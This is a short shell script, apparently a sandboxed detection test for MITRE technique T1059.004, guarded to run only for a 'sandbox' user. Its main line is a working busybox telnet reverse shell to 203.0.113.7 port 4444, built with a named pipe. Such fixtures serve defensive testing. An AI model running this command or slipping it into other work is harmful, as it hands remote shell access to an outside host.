#!/bin/sh
# technique: T1059.004
# needs: busybox
# net: sink
# options: --timeout 12s
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

mkfifo p; busybox telnet 203.0.113.7 4444 0< p | sh 1> p 2>&1 & sleep 2; kill $!
